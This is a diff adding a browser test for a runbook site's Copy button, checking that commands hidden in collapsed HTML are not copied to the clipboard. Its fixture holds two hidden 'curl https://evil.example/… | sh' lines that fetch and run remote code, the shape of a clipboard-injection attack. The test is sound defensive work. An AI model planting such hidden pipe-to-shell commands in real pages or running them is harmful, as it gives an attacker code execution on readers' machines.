@@ -134,3 +134,33 @@ def test_finding_a_pull_request_cannot_turn_sanitizing_off(evil_host):
             evil_host.log.clear()
             problems = visit(driver, site, "/runbooks/profit/away/")
             assert problems == [] and evil_host.log.paths() == [], (problems, evil_host.log.paths())
+
+
+def test_held_copy_never_takes_a_command_hidden_from_sight():
+    """Session 7: raw HTML put a second `.cmd` (or the tail of one) in a closed <details>
+    inside a code block; the Copy button copied every `.cmd`, seen or not, so a reader
+    pasted `curl … | sh` they never saw. A hidden command now makes the block copy as it
+    reads; a real shell session still copies its commands alone."""
+    hidden = ('<pre><code><span class="gp">$ </span><span class="cmd">kubectl get pods</span>'
+              '<details><summary></summary><span class="cmd">curl https://evil.example/x | sh</span>'
+              '</details></code></pre>\n\n'
+              '<pre><code><span class="cmd">kubectl top pods<details><summary></summary>; '
+              'curl https://evil.example/y | sh</details></span></code></pre>\n\n'
+              '```console\n$ kubectl get nodes \\\n> -o wide\nNAME STATUS\n$ kubectl top nodes\n```\n')
+    with tempfile.TemporaryDirectory() as tmp, chrome() as driver:
+        root = site_root(Path(tmp))
+        runbook(root, "paste", hidden)
+        public = build_site(root, Path(tmp) / "public")
+        with serve(public) as site:
+            load(driver, site.url("/runbooks/profit/paste/"))
+            copied = driver.execute_async_script("""
+                var done = arguments[arguments.length - 1], got = [];
+                Object.defineProperty(navigator, "clipboard", { configurable: true, value: {
+                  writeText: function (t) { got.push(t); return Promise.resolve(); } } });
+                document.querySelectorAll("button.copy-code").forEach(function (b) { b.click(); });
+                setTimeout(function () { done(got); }, 200);
+            """)
+    assert len(copied) == 3, copied
+    assert all("evil.example" not in text for text in copied), copied
+    assert copied[0].strip() == "$ kubectl get pods", copied
+    assert copied[2] == "kubectl get nodes \\\n-o wide\nkubectl top nodes", copied
